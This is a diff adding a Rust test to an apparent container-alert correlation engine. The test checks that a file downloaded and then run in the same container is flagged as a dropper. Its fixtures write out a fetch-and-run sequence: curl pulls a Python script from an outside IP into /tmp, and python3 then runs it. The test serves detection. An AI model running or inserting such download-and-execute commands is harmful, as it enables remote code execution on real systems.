@@ -190,3 +190,42 @@ fn evidence_matching_cost_on_the_engine_path() {
         (best_with / best_none - 1.0) * 100.0
     );
 }
+
+/// A download in one alert and the downloaded file run in a later alert of the same container
+/// is a dropper's pattern: the second alert is malicious, with the download named; the same
+/// file run in another container is not.
+#[test]
+fn a_file_downloaded_then_run_on_the_same_workload_is_malicious() {
+    let on = |container: &str, rule: &str, cmdline: &str| {
+        alert(json!({
+            "rule": rule, "priority": "Warning", "source": "syscall",
+            "output_fields": {"container.id": container, "proc.cmdline": cmdline,
+                              "proc.name": cmdline.split(' ').next(), "user.name": "www-data"}
+        }))
+    };
+    let mut e = engine();
+    let fetch = verdict_of(e.process(on(
+        "0a1b2c3d4e5f",
+        "Launch Suspicious Network Tool in Container",
+        "curl -so /tmp/agent.py http://203.0.113.7:8081/agent.py",
+    )));
+    assert_ne!(fetch.kind, VerdictKind::Malicious, "{fetch:#?}");
+    let other = verdict_of(e.process(on(
+        "ffffffffffff",
+        "Run shell untrusted",
+        "python3 /tmp/agent.py",
+    )));
+    assert_ne!(other.kind, VerdictKind::Malicious, "{other:#?}");
+    let run = verdict_of(e.process(on(
+        "0a1b2c3d4e5f",
+        "Run shell untrusted",
+        "python3 /tmp/agent.py",
+    )));
+    assert_eq!(run.kind, VerdictKind::Malicious, "{run:#?}");
+    assert!(
+        run.reasons
+            .iter()
+            .any(|r| r.text.contains("/tmp/agent.py") && r.text.contains("curl")),
+        "{run:#?}"
+    );
+}
